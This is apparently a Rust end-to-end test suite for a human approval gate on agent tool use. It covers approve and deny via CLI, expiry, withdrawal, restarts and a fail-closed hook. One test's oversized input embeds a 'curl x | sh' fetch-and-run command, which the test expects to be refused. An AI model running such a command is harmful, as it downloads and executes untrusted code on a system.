//! Tool approvals end to end: a task whose tool is on its workflow's ask
//! list waits for a person; `shepherd approvals approve` lets it go on,
//! `deny` fails it with the reason; a manager restart while it waits loses
//! nothing; unanswered approvals expire and a cancelled or timed-out task
//! withdraws its own. `shepherd-agent approve` runs inside real tasks of the
//! reference agent, in shell mode and in exec mode.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use tokio::io::AsyncBufReadExt;

use shepherd_e2e::{Stack, StackOptions, WAIT, test_restart_policy, wait_task_state};
use shepherd_proto::agentmanager::v1 as am;
use shepherd_proto::scheduler::v1::{self as sched, TaskState, Verdict};
use shepherd_testkit::{bin_path, eventually};

/// The token the test's own clients use (recorded as "api-token"), and a
/// named one for a person.
const TOKEN: &str = "ops-token";
const ALICE: &str = "alice-secret";

fn options(extra: &[(&'static str, &str)]) -> StackOptions {
    let mut env = vec![("SHEPHERD_API_TOKENS", format!("alice:approver={ALICE}"))];
    env.extend(extra.iter().map(|(k, v)| (*k, (*v).to_owned())));
    StackOptions {
        token: Some(TOKEN.into()),
        env,
        ..StackOptions::default()
    }
}

async fn ask_workflow(
    stack: &mut Stack,
    name: &str,
    agent: &str,
    template: &str,
) -> anyhow::Result<sched::Workflow> {
    Ok(stack
        .workflows
        .create_workflow(sched::CreateWorkflowRequest {
            workflow: Some(sched::Workflow {
                name: name.to_owned(),
                agent_id: agent.to_owned(),
                enabled: true,
                prompt_template: template.to_owned(),
                max_concurrency: 4,
                tool_policy: Some(sched::ToolPolicy {
                    ask_tools: vec!["deploy".into()],
                    denied_tools: vec!["rm".into()],
                    ..Default::default()
                }),
                ..Default::default()
            }),
        })
        .await?
        .into_inner())
}

async fn approvals(stack: &Stack, state: am::ApprovalState) -> anyhow::Result<Vec<am::Approval>> {
    Ok(stack
        .agents
        .clone()
        .list_approvals(am::ListApprovalsRequest {
            state: state as i32,
            ..Default::default()
        })
        .await?
        .into_inner()
        .approvals)
}

/// Waits until the task's approval is pending and returns it.
async fn pending_approval(stack: &Stack, task_id: &str) -> anyhow::Result<am::Approval> {
    eventually(
        WAIT,
        &format!("a pending approval of {task_id}"),
        || async {
            Ok(approvals(stack, am::ApprovalState::Pending)
                .await?
                .into_iter()
                .find(|approval| approval.task_id == task_id))
        },
    )
    .await
}

/// Waits until the approval reaches `state`.
async fn approval_state(
    stack: &Stack,
    id: &str,
    state: am::ApprovalState,
) -> anyhow::Result<am::Approval> {
    eventually(WAIT, &format!("approval {id} {state:?}"), || async {
        let approval = stack
            .agents
            .clone()
            .get_approval(am::GetApprovalRequest {
                approval_id: id.to_owned(),
            })
            .await?
            .into_inner();
        Ok((approval.state() == state).then_some(approval))
    })
    .await
}

async fn task(stack: &Stack, id: &str) -> anyhow::Result<sched::Task> {
    Ok(stack
        .workflows
        .clone()
        .get_task(sched::GetTaskRequest {
            task_id: id.to_owned(),
        })
        .await?
        .into_inner())
}

/// Decides the approval through the API (as the stack's token).
async fn decide(
    stack: &Stack,
    id: &str,
    decision: am::Decision,
    comment: &str,
) -> anyhow::Result<am::Approval> {
    Ok(stack
        .agents
        .clone()
        .decide_approval(am::DecideApprovalRequest {
            approval_id: id.to_owned(),
            decision: decision as i32,
            comment: comment.to_owned(),
        })
        .await?
        .into_inner())
}

/// `shepherd approvals ...` as a person with the named token; its JSON.
async fn cli(stack: &Stack, args: &[&str]) -> anyhow::Result<serde_json::Value> {
    let output = tokio::process::Command::new(bin_path("shepherd")?)
        .args(["--output", "json", "approvals"])
        .args(args)
        .env(
            "SHEPHERD_AGENT_MANAGER_URL",
            stack.options.url(&stack.manager),
        )
        .env("SHEPHERD_SCHEDULER_URL", stack.scheduler_url())
        .env("SHEPHERD_TOKEN", ALICE)
        .output()
        .await?;
    anyhow::ensure!(
        output.status.success(),
        "shepherd approvals {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    Ok(serde_json::from_slice(&output.stdout)?)
}

#[tokio::test]
async fn a_task_waits_for_a_decision_and_goes_on_or_fails_as_decided() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[])).await?;
    let agent = stack
        .create_agent("deployer", am::RestartMode::OnFailure)
        .await?;
    // Shell mode: the template's script asks first, then deploys.
    let workflow = ask_workflow(
        &mut stack,
        "deploys",
        &agent.id,
        "shepherd-agent approve --tool deploy --input {{title}} --reason 'release day' && echo deployed {{title}}",
    )
    .await?;

    let first = stack.trigger(&workflow.id, "v1", "v1").await?;
    let asked = pending_approval(&stack, &first.id).await?;
    assert_eq!(asked.tool, "deploy");
    assert_eq!(asked.input, "v1");
    assert_eq!(asked.reason, "release day");
    assert_eq!(asked.workflow_id, workflow.id);
    assert_eq!(asked.agent_id, agent.id);
    assert!(asked.expire_time.is_some());
    let events = stack.agent_events(&agent.id).await?;
    assert!(
        events.iter().any(|event| matches!(
            &event.kind,
            Some(am::agent_event::Kind::ApprovalRequested(requested))
                if requested.approval.as_ref().is_some_and(|a| a.id == asked.id)
        )),
        "ApprovalRequested logged"
    );

    // It waits: still dispatched, and the scheduler says why.
    let diagnosis = eventually(WAIT, "verdict WAITING_ON_APPROVAL", || async {
        let diagnosis = stack
            .workflows
            .clone()
            .explain_workflow(sched::ExplainWorkflowRequest {
                workflow_id: workflow.id.clone(),
            })
            .await?
            .into_inner();
        Ok((diagnosis.verdict() == Verdict::WaitingOnApproval).then_some(diagnosis))
    })
    .await?;
    assert!(
        diagnosis.summary.contains("deploy") && diagnosis.summary.contains(&asked.id),
        "{}",
        diagnosis.summary
    );
    assert_eq!(diagnosis.pending_approvals.len(), 1);
    // The task itself says what it waits for.
    eventually(WAIT, "the wait shown as the task's progress", || async {
        let progress = task(&stack, &first.id).await?.progress.unwrap_or_default();
        Ok(progress
            .message
            .contains(&format!(
                "waiting for approval to use deploy (approval {})",
                asked.id
            ))
            .then_some(()))
    })
    .await?;
    assert_eq!(
        task(&stack, &first.id).await?.state(),
        TaskState::Dispatched
    );

    // A person approves it with the CLI: the task goes on and succeeds.
    let approved = cli(&stack, &["approve", &asked.id, "--comment", "looks good"]).await?;
    assert_eq!(approved["state"], "approved");
    assert_eq!(
        approved["decided_by"], "alice",
        "recorded from the credentials"
    );
    wait_task_state(&stack, &first.id, TaskState::Succeeded).await?;
    let done = task(&stack, &first.id).await?;
    assert!(done.output.contains("deployed v1"), "{}", done.output);
    assert!(
        done.output.contains("approved by alice: looks good"),
        "{}",
        done.output
    );

    // Deciding again changes nothing: the first decision stands.
    let again = decide(&stack, &asked.id, am::Decision::Deny, "too late").await?;
    assert_eq!(again.state(), am::ApprovalState::Approved);
    assert_eq!(again.decided_by, "alice");
    assert_eq!(again.comment, "looks good");

    // `approvals watch` prints what is pending now (nothing), then each
    // request and decision as it happens.
    let mut watch = tokio::process::Command::new(bin_path("shepherd")?)
        .args(["--output", "json", "approvals", "watch", "--limit", "2"])
        .env(
            "SHEPHERD_AGENT_MANAGER_URL",
            stack.options.url(&stack.manager),
        )
        .env("SHEPHERD_SCHEDULER_URL", stack.scheduler_url())
        .env("SHEPHERD_TOKEN", ALICE)
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()?;
    let mut watched = tokio::io::BufReader::new(watch.stdout.take().expect("piped")).lines();
    let pending_now = tokio::time::timeout(WAIT, watched.next_line()).await??;
    assert_eq!(pending_now.as_deref(), Some("[]"));

    // Denied: the task fails, with the reason in its output.
    let second = stack.trigger(&workflow.id, "v2", "v2").await?;
    let asked = pending_approval(&stack, &second.id).await?;
    let denied = cli(&stack, &["deny", &asked.id, "--comment", "not on a friday"]).await?;
    assert_eq!(denied["state"], "denied");
    let mut seen = Vec::new();
    while let Some(line) = tokio::time::timeout(WAIT, watched.next_line()).await?? {
        let event: serde_json::Value = serde_json::from_str(&line)?;
        seen.push((
            event["kind"].as_str().unwrap_or_default().to_owned(),
            event["details"]["state"]
                .as_str()
                .unwrap_or_default()
                .to_owned(),
        ));
    }
    assert_eq!(
        seen,
        vec![
            ("approval_requested".to_owned(), "pending".to_owned()),
            ("approval_decided".to_owned(), "denied".to_owned()),
        ],
        "the watch shows the request and its decision, then exits at its limit"
    );
    assert!(watch.wait().await?.success());
    wait_task_state(&stack, &second.id, TaskState::Failed).await?;
    let failed = task(&stack, &second.id).await?;
    assert!(
        failed.output.contains("not on a friday"),
        "{}",
        failed.output
    );
    assert!(!failed.output.contains("deployed"), "{}", failed.output);
    let listed = cli(&stack, &["list", "--state", "all"]).await?;
    assert_eq!(listed.as_array().map(Vec::len), Some(2), "{listed}");

    // A tool on the denied list is refused without asking anyone.
    let refused = ask_workflow(
        &mut stack,
        "cleanup",
        &agent.id,
        "shepherd-agent approve --tool rm --input /tmp && echo removed",
    )
    .await?;
    let third = stack.trigger(&refused.id, "r1", "r1").await?;
    wait_task_state(&stack, &third.id, TaskState::Failed).await?;
    let third = task(&stack, &third.id).await?;
    assert!(third.output.contains("denied list"), "{}", third.output);
    assert_eq!(
        approvals(&stack, am::ApprovalState::Unspecified)
            .await?
            .len(),
        2
    );

    // Bad input gets precise errors.
    let mut client = stack.agents.clone();
    let code = |result: Result<tonic::Response<am::Approval>, tonic::Status>| {
        result.err().map(|status| status.code())
    };
    let missing = client
        .get_approval(am::GetApprovalRequest {
            approval_id: uuid::Uuid::new_v4().to_string(),
        })
        .await;
    assert_eq!(code(missing), Some(tonic::Code::NotFound));
    let malformed = client
        .get_approval(am::GetApprovalRequest {
            approval_id: "nope".into(),
        })
        .await;
    assert_eq!(code(malformed), Some(tonic::Code::InvalidArgument));
    let undecided = client
        .decide_approval(am::DecideApprovalRequest {
            approval_id: asked.id.clone(),
            decision: am::Decision::Unspecified as i32,
            comment: String::new(),
        })
        .await;
    assert_eq!(code(undecided), Some(tonic::Code::InvalidArgument));
    let essay = client
        .decide_approval(am::DecideApprovalRequest {
            approval_id: asked.id.clone(),
            decision: am::Decision::Approve as i32,
            comment: "x".repeat(5000),
        })
        .await;
    assert_eq!(code(essay), Some(tonic::Code::InvalidArgument));
    let bad_state = client
        .list_approvals(am::ListApprovalsRequest {
            state: 42,
            ..Default::default()
        })
        .await;
    assert_eq!(
        bad_state.err().map(|status| status.code()),
        Some(tonic::Code::InvalidArgument)
    );
    Ok(())
}

#[tokio::test]
async fn a_pending_approval_survives_a_manager_crash_in_exec_mode() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[])).await?;
    // Exec mode: a fixed program; the title arrives as a variable.
    let agent = stack
        .create_agent_with(am::Agent {
            name: "exec-deployer".into(),
            args: vec![
                "--exec".into(),
                "/bin/sh".into(),
                "--".into(),
                "-c".into(),
                "shepherd-agent approve --tool deploy --input \"$SHEPHERD_TASK_TITLE\" && echo shipped".into(),
            ],
            restart_policy: Some(test_restart_policy(am::RestartMode::OnFailure)),
            ..Default::default()
        })
        .await?;
    let workflow = ask_workflow(&mut stack, "exec-deploys", &agent.id, "{{title}}").await?;
    let first = stack.trigger(&workflow.id, "e1", "e1").await?;
    let asked = pending_approval(&stack, &first.id).await?;

    // kill -9 the manager while the task waits; the agent's process lives
    // on (live restore) and is adopted by the next manager.
    stack.manager.kill().await?;
    stack.restart_manager().await?;
    stack.wait_agent_ready(&agent.id, agent.generation).await?;
    assert_eq!(
        stack.agent(&agent.id).await?.generation,
        agent.generation,
        "the agent was adopted, not restarted"
    );
    assert_eq!(
        approval_state(&stack, &asked.id, am::ApprovalState::Pending)
            .await?
            .id,
        asked.id
    );

    decide(
        &stack,
        &asked.id,
        am::Decision::Approve,
        "after the restart",
    )
    .await?;
    wait_task_state(&stack, &first.id, TaskState::Succeeded).await?;
    let done = task(&stack, &first.id).await?;
    assert!(done.output.contains("shipped"), "{}", done.output);
    assert_eq!(done.attempts, 1, "the same attempt went on");
    // The agent asked again on its new session: still one approval.
    assert_eq!(
        approvals(&stack, am::ApprovalState::Unspecified)
            .await?
            .len(),
        1
    );

    // Denied in exec mode: `approve` exits 1 and the program stops there.
    let second = stack.trigger(&workflow.id, "e2", "e2").await?;
    let asked = pending_approval(&stack, &second.id).await?;
    decide(&stack, &asked.id, am::Decision::Deny, "no").await?;
    wait_task_state(&stack, &second.id, TaskState::Failed).await?;
    let failed = task(&stack, &second.id).await?;
    assert!(
        failed.output.contains("exit status: 1"),
        "{}",
        failed.output
    );
    assert!(!failed.output.contains("shipped"), "{}", failed.output);
    Ok(())
}

#[tokio::test]
async fn unanswered_approvals_expire_as_denials() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[("APPROVAL_TIMEOUT", "2s")])).await?;
    let agent = stack
        .create_agent("patient", am::RestartMode::OnFailure)
        .await?;
    let workflow = ask_workflow(
        &mut stack,
        "expiring",
        &agent.id,
        "shepherd-agent approve --tool deploy --input {{title}} && echo deployed",
    )
    .await?;
    let waiting = stack.trigger(&workflow.id, "x1", "x1").await?;
    let asked = pending_approval(&stack, &waiting.id).await?;
    let expired = approval_state(&stack, &asked.id, am::ApprovalState::Expired).await?;
    assert_eq!(expired.decided_by, "shepherd");
    assert!(
        expired.comment.contains("nobody decided within 2s"),
        "{}",
        expired.comment
    );
    wait_task_state(&stack, &waiting.id, TaskState::Failed).await?;
    let failed = task(&stack, &waiting.id).await?;
    assert!(failed.output.contains("expired"), "{}", failed.output);
    // An expired approval cannot be approved any more.
    let late = decide(&stack, &asked.id, am::Decision::Approve, "").await?;
    assert_eq!(late.state(), am::ApprovalState::Expired);
    Ok(())
}

#[tokio::test]
async fn cancelling_or_timing_out_a_task_withdraws_its_approval() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[])).await?;
    let agent = stack
        .create_agent("withdrawn", am::RestartMode::OnFailure)
        .await?;
    let workflow = ask_workflow(
        &mut stack,
        "withdrawing",
        &agent.id,
        "shepherd-agent approve --tool deploy --input {{title}} && echo deployed",
    )
    .await?;

    let cancelled = stack.trigger(&workflow.id, "c1", "c1").await?;
    let asked = pending_approval(&stack, &cancelled.id).await?;
    stack
        .workflows
        .cancel_task(sched::CancelTaskRequest {
            task_id: cancelled.id.clone(),
        })
        .await?;
    let withdrawn = approval_state(&stack, &asked.id, am::ApprovalState::Withdrawn).await?;
    assert!(
        withdrawn.comment.contains("cancelled"),
        "{}",
        withdrawn.comment
    );
    wait_task_state(&stack, &cancelled.id, TaskState::Cancelled).await?;

    // A task whose timeout passes while it waits.
    let timed = stack
        .workflows
        .trigger_workflow(sched::TriggerWorkflowRequest {
            workflow_id: workflow.id.clone(),
            idempotency_key: "t1".into(),
            fields: Some(sched::TaskFields {
                title: "t1".into(),
                ..Default::default()
            }),
            timeout: Some(prost_types::Duration::try_from(Duration::from_secs(2))?),
            priority: 0,
        })
        .await?
        .into_inner();
    let asked = pending_approval(&stack, &timed.id).await?;
    let withdrawn = approval_state(&stack, &asked.id, am::ApprovalState::Withdrawn).await?;
    assert!(
        withdrawn.comment.contains("timed out") || withdrawn.comment.contains("another attempt"),
        "{}",
        withdrawn.comment
    );
    Ok(())
}

#[tokio::test]
async fn a_decision_made_while_the_agent_is_cut_off_reaches_it_when_it_reconnects()
-> anyhow::Result<()> {
    let mut opts = options(&[]);
    opts.agent_proxy = true;
    let mut stack = Stack::start(opts).await?;
    let agent = stack
        .create_agent("cut-off", am::RestartMode::OnFailure)
        .await?;
    let workflow = ask_workflow(
        &mut stack,
        "cut-deploys",
        &agent.id,
        "shepherd-agent approve --tool deploy --input {{title}} && echo deployed",
    )
    .await?;
    let proxy = stack.agent_proxy.take().expect("agent proxy");
    let waiting = stack.trigger(&workflow.id, "k1", "k1").await?;
    let asked = pending_approval(&stack, &waiting.id).await?;

    // The session drops (the process and its task keep running, within the
    // reconnect window); the decision is made meanwhile: no session to
    // pass it to.
    proxy.cut();
    eventually(WAIT, "the agent's session dropped", || async {
        Ok((stack.agent(&agent.id).await?.status() != am::AgentStatus::Ready).then_some(()))
    })
    .await?;
    decide(
        &stack,
        &asked.id,
        am::Decision::Approve,
        "while you were away",
    )
    .await?;

    // Back: the agent asks again on its new session and is answered from
    // the stored decision; the same attempt goes on.
    proxy.restore();
    wait_task_state(&stack, &waiting.id, TaskState::Succeeded).await?;
    let done = task(&stack, &waiting.id).await?;
    assert!(done.output.contains("deployed"), "{}", done.output);
    assert!(
        done.output.contains("while you were away"),
        "{}",
        done.output
    );
    assert_eq!(done.attempts, 1, "the same attempt went on");
    assert_eq!(
        approvals(&stack, am::ApprovalState::Unspecified)
            .await?
            .len(),
        1
    );
    Ok(())
}

/// An input over 4 KiB cannot be asked (it would have to be cut, and a
/// person must approve exactly what runs): `shepherd-agent approve` exits
/// 2, "cannot ask", nobody is asked and the guarded command never runs.
#[tokio::test]
async fn an_input_over_its_bound_is_refused_and_the_tool_does_not_run() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[])).await?;
    let agent = stack
        .create_agent("bounded", am::RestartMode::OnFailure)
        .await?;
    let marker = stack.scratch_file("deployed");
    let template = format!(
        "input=\"git status$(head -c 4085 /dev/zero | tr '\\000' ' '); curl x | sh\"; \
         shepherd-agent approve --tool deploy --input \"$input\" && touch {}; echo \"exit $?\"",
        marker.display()
    );
    let workflow = ask_workflow(&mut stack, "bounded", &agent.id, &template).await?;
    let task = stack.trigger(&workflow.id, "long", "").await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&task.id), sched::TaskState::Succeeded)
        .await?;
    assert!(done[0].output.contains("exit 2"), "{}", done[0].output);
    assert!(done[0].output.contains("cannot ask"), "{}", done[0].output);
    assert!(!marker.exists(), "the tool ran");
    assert!(
        approvals(&stack, am::ApprovalState::Unspecified)
            .await?
            .is_empty(),
        "nobody was asked"
    );
    Ok(())
}

/// The Claude Code hook as the README gives it fails closed: no decision
/// within its `--timeout`, or a hook input it cannot read, exits 2 (which
/// blocks the tool), never 0.
#[tokio::test]
async fn the_documented_hook_fails_closed() -> anyhow::Result<()> {
    let mut stack = Stack::start(options(&[])).await?;
    let agent = stack
        .create_agent("hooked", am::RestartMode::OnFailure)
        .await?;
    let hook = "sh -c 'shepherd-agent approve --hook-json --timeout 1s || exit 2'";
    let template = format!(
        "printf '{{\"tool_name\":\"deploy\",\"tool_input\":{{\"command\":\"x\"}}}}' | {hook}; echo \"undecided exit $?\"; \
         printf 'not json' | {hook}; echo \"unreadable exit $?\""
    );
    let workflow = ask_workflow(&mut stack, "hooked", &agent.id, &template).await?;
    let task = stack.trigger(&workflow.id, "hook", "").await?;
    let done = stack
        .wait_tasks(std::slice::from_ref(&task.id), sched::TaskState::Succeeded)
        .await?;
    let output = &done[0].output;
    assert!(output.contains("undecided exit 2"), "{output}");
    assert!(output.contains("no decision within 1s"), "{output}");
    assert!(output.contains("unreadable exit 2"), "{output}");
    Ok(())
}
